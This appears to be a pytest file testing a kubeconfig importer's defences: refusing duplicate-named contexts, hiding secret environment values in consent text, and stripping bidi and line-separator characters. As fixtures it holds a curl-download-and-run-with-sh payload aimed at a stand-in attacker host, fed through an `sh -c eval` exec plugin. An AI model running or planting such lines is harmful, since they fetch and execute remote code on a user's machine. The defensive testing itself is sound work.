"""Second review of the kubeconfig import: two contexts of one name are neither of them
importable (the choice travels by name, so an unticked one went in with the ticked one); the
consent shows in full an environment variable the command reads, and no text of the file
that makes a line read other than it is."""

from __future__ import annotations

from pathlib import Path

import pytest

from aiops_desktop.services.clusters.kubeconfig import read_contexts
from aiops_desktop.services.core import Core

PROD = "https://api.prod.example.com:6443"
EVIL = "https://api.attacker.example.net:6443"
PAYLOAD = "curl -fsS https://attacker.example.net/p -o ~/.p; sh ~/.p"


def _two_prods(folder: Path) -> Path:
    path = folder / "config"
    path.write_text(f"""apiVersion: v1
kind: Config
clusters:
- {{name: prod, cluster: {{server: '{PROD}'}}}}
- {{name: evil, cluster: {{server: '{EVIL}'}}}}
users:
- {{name: u, user: {{token: sha256~AAAAAAAAAAAAAAAAAAAAAAAA}}}}
contexts:
- {{name: prod, context: {{cluster: prod, user: u}}}}
- {{name: prod, context: {{cluster: evil, user: u}}}}
- {{name: lab, context: {{cluster: prod, user: u}}}}
""")
    return path


# -- 1: two contexts of one name ----------------------------------------------------------------
def test_contexts_of_one_name_are_none_of_them_importable(tmp_path: Path) -> None:
    found = read_contexts(_two_prods(tmp_path))
    assert [(c.context, c.usable) for c in found] == [
        ("prod", False),
        ("prod", False),
        ("lab", True),
    ]
    for ctx in found[:2]:
        assert ctx.error is not None and "2 contexts named 'prod'" in ctx.error, ctx.error
        assert ctx.payload is None and ctx.server is None  # nothing of it read, nor shown
    assert found[2].server == PROD


@pytest.mark.asyncio
async def test_an_unticked_context_of_a_ticked_name_is_never_registered(
    core: Core, tmp_path: Path
) -> None:
    path = _two_prods(tmp_path)
    await core.registry.load()
    report = await core.registry.import_kubeconfig(path, ["prod", "lab"])
    assert [(c.display_name, c.api_server_url) for c in report.imported] == [("lab", PROD)]
    assert [name for name, _why in report.skipped] == ["prod"]  # said once, both refused
    assert all(c.api_server_url != EVIL for c in core.registry.clusters())
    assert [c.name for c in core.registry.clusters()] == ["lab"]


# -- 2: what the consent shows -------------------------------------------------------------------
def _exec_user(folder: Path, user: str, context: str = "prod-oidc") -> Path:
    path = folder / "config"
    path.write_text(f"""apiVersion: v1
kind: Config
clusters:
- {{name: prod, cluster: {{server: '{PROD}'}}}}
users:
- name: a
  user:
    exec:
{user}
contexts:
- {{name: "{context}", context: {{cluster: prod, user: a}}}}
""")
    return path


@pytest.mark.parametrize(
    "reference",
    ["$OIDC_CLIENT_SECRET", "${OIDC_CLIENT_SECRET}", "$(printenv OIDC_CLIENT_SECRET)"],
)
def test_a_hidden_variable_the_command_reads_is_said_to_be_read(
    tmp_path: Path, reference: str
) -> None:
    """A payload in a secret-named variable the command line runs: the consent says the
    hidden value is read by the command (what runs may depend on it), and never prints it
    (the consent is printed where a context is skipped: a real plugin passes its client
    secret this way)."""
    user = f"""      apiVersion: client.authentication.k8s.io/v1
      command: sh
      args: ["-c", 'eval "{reference}"']
      env:
      - {{name: OIDC_CLIENT_SECRET, value: "{PAYLOAD}"}}
      - {{name: OTHER_SECRET, value: "s3cr3t-value-never-shown"}}"""
    [ctx] = read_contexts(_exec_user(tmp_path, user))
    assert ctx.usable, ctx.error
    assert ctx.runs is not None
    assert PAYLOAD not in ctx.runs, ctx.runs
    assert "OIDC_CLIENT_SECRET=<hidden, and read by the command line" in ctx.runs
    assert "OTHER_SECRET=<hidden>" in ctx.runs  # one it does not name: hidden, no more said
    assert "s3cr3t-value-never-shown" not in ctx.runs


def test_a_lowercase_reference_is_another_variable(tmp_path: Path) -> None:
    user = f"""      apiVersion: client.authentication.k8s.io/v1
      command: sh
      args: ["-c", 'eval "$oidc_client_secret"']
      env:
      - {{name: OIDC_CLIENT_SECRET, value: "{PAYLOAD}"}}"""
    [ctx] = read_contexts(_exec_user(tmp_path, user))
    assert ctx.runs is not None and "OIDC_CLIENT_SECRET=<hidden>)" in ctx.runs


def test_a_secret_variable_the_command_does_not_read_stays_hidden(tmp_path: Path) -> None:
    user = f"""      apiVersion: client.authentication.k8s.io/v1
      command: kubelogin
      args: [get-token]
      env:
      - {{name: OIDC_CLIENT_SECRET, value: "{PAYLOAD}"}}"""
    [ctx] = read_contexts(_exec_user(tmp_path, user))
    assert ctx.runs is not None
    assert PAYLOAD not in ctx.runs and "OIDC_CLIENT_SECRET=<hidden>" in ctx.runs, ctx.runs
    assert "command fingerprint" in ctx.runs


def test_the_consent_holds_no_bidi_override_nor_line_separator(tmp_path: Path) -> None:
    user = """      apiVersion: client.authentication.k8s.io/v1
      command: kubectl
      args: ["oidc-login", "get-token",
             "--oidc-issuer-url=https://sso.corp.example.com\\u2028    reads ~/.kube/ca.crt\\u202e"]
      env: [{name: "MODE\\u202e", value: "a\\u2029b"}]"""
    [ctx] = read_contexts(_exec_user(tmp_path, user, context="prod\\u202e-lab"))
    assert ctx.usable, ctx.error
    assert ctx.context == "prod\u202e-lab"  # the name the registry matches, as in the file
    assert ctx.runs is not None
    assert not any(c in ctx.runs for c in "\u202e\u2028\u2029"), repr(ctx.runs)
    assert "https://sso.corp.example.com     reads ~/.kube/ca.crt" in ctx.runs
    # the text shown no longer is the exact command: a fingerprint binds the consent to it
    assert "command fingerprint" in ctx.runs
